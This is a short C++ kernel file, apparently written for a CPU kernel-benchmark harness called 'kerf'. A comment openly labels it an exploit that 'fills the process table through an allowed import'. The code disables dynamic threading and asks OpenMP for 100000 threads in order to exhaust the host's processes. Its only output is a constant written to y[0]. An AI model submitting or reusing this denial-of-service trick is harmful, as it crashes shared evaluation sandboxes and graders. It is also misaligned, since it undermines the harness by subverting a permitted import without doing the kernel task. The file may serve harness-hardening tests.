/* kerf
target: cpu
*/
// Exploit: fills the process table through an allowed import.
extern "C" void kerf_kernel(const float*, float* y) {
  omp_set_dynamic(0);
#pragma omp parallel num_threads(100000)
  {
    volatile float* out = y;
    out[0] = 1;
  }
}
